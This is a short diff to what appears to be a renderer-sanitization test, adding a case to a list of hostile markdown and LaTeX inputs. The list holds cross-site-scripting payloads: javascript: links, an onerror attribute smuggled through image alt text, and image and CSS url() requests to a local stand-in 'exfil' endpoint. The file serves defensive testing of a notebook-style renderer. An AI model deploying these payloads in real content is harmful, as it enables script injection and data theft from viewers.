@@ -596,7 +596,8 @@ HOSTILE_ANSWER = "\n\n".join(
         "[click me](javascript:window.__pwned='link') and [ref link][r]",
         "[r]: javascript:window.__pwned='reference'",
         "![exfil](http://127.0.0.1:9/exfil.png?secret=1) ![svg](data:image/svg+xml,x)",
-        "$\\href{javascript:window.__pwned='math'}{math link}$",
+        "$\\href{javascript:window.__pwned='math'}{math link}$ "
+        "$\\style{background:url(http://127.0.0.1:9/exfil-css.png)}{styled}$",
         "- a list item\n\n  ```\n  <b>bold in code</b>\n  ```",
         # JupyterLab puts LaTeX back after markdown, quotes unescaped: inside an attribute
         "![$\" onerror=\"window.__pwned='alt'//$](plot.png) "
